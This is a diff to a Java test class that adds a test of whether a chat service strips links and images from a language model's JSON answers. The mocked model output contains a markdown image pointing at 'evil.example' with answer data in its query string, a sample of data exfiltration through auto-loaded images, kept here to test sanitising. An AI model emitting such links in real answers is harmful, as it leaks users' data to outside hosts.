@@ -101,6 +101,20 @@ class ReplyFormTests {
 	}
 
 	@Test
+	void linksAndPicturesInJsonArePlain() throws Exception {
+		LanguageModel model = OpenAiFixtures.model((request, listener) -> {
+			asked.add(request);
+			String text = (asked.size() == 1) ? "It is 330 metres high [1]."
+					: "{\"height\":\"330 metres\",\"more\":[{\"to\":\"![x](https://evil.example/p?q=330)\"}]}";
+			listener.text(text);
+			return Reply.complete(text);
+		});
+		JsonNode answer = chat(models(model), "\"response_format\":{\"type\":\"json_object\"}");
+		assertThat(answer.at("/choices/0/message/content").asString()).contains("330 metres", "evil.example")
+			.doesNotContain("](", "https://");
+	}
+
+	@Test
 	void numbersOfTheJsonThatTheAnswerLacksAreToldOf() {
 		assertThat(JsonAnswers.foreignNumbers("{\"pay\":18000,\"share\":4.0,\"year\":\"2025\"}",
 				"The chair earns 18,000 euros, 4 percent of it in 2025."))
